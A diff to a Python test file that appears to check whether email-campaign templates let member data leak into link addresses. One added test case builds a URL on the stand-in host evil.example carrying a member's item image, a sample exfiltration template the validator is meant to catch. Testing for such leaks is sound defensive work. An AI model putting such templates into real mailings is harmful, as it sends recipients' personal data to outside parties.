@@ -119,6 +119,9 @@ IN_TEXT = {
     "title_in_other_letters": f"{{{{ campaign.title|lower }}}}{NAME}",
     "partner_as_an_address": f"{{{{ sender.partner }}}}{NAME}",
     "title_of_an_offer_as_an_address": f"{{{{ offers[0].title }}}}{NAME}",
+    "next_of_the_member_in_an_address": (
+        "{% for part in member.parts %}https://evil.example/{{ loop.nextitem.image }}{% endfor %}"
+    ),
     "next_offer_as_an_address": "{% for o in offers %}{{ loop.nextitem.title }}{{ member.first_name }}{% endfor %}",
     "own_link_after_a_title": "{{ campaign.title }}{{ links.why }}",
     "own_link_after_an_offer": "{{ offers[0].text }}{{ links.preferences }}",
@@ -166,6 +169,8 @@ def test_no_value_of_a_member_stands_in_an_address_of_a_text(channel: Channel, f
         '<a href="{{ links.why }}#top">x</a>',
         '<a href="{{ organisation.privacy_notice }}">x</a>',
         '{% for offer in offers %}<img src="{{ offer.image }}" alt="{{ offer.title }}">{% endfor %}',
+        '{% for offer in offers %}{% with other = loop.nextitem %}<img src="{{ other.image }}" alt="">{% endwith %}'
+        "{% endfor %}",
         '{% if member.city %}<a href="https://lahde.example.org/oulu">x</a>{% endif %}',
         "<p>Hei {{ member.first_name }}, lue lisää: https://lahde.example.org/</p>",
         "<p>Kiitos.{% if member.city %}Nähdään!{% endif %}</p>",
